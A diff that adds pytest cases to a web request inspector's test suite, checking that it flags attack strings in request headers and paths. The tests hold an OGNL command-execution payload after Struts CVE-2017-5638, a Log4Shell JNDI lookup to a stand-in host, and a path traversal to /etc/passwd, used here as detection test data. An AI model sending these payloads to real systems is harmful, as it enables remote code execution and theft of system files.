@@ -251,3 +251,25 @@ def test_an_upload_with_a_script_is_found(inspection: Inspection) -> None:
     found = inspection.body(part, content_type="multipart/form-data; boundary=X")
     assert {finding.location for finding in found} == {"multipart"}
     assert "file_upload" in {finding.category for finding in found}
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    [
+        "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}",
+        "${jndi:ldap://evil.example/a}",
+    ],
+)
+def test_refuses_an_attack_in_the_content_type(inspection: Inspection, content_type: str) -> None:
+    """As Struts evaluated it (CVE-2017-5638), with whatever else is in the head."""
+    for more in ({}, {"HTTP_HOST": "shop.example.com"}, {"HTTP_HOST": "a", "HTTP_ACCEPT": "b"}):
+        found = inspection.head({"PATH_INFO": "/", "CONTENT_TYPE": content_type, **more})
+        assert any(finding.name == "content-type" for finding in found), found
+
+
+def test_refuses_an_attack_in_a_head_that_has_a_path_and_nothing_else(
+    inspection: Inspection,
+) -> None:
+    assert inspection.head({"PATH_INFO": "/files/../../../../etc/passwd"})
+    assert not inspection.head({"PATH_INFO": "/files/report.pdf"})
+    assert not inspection.head({})
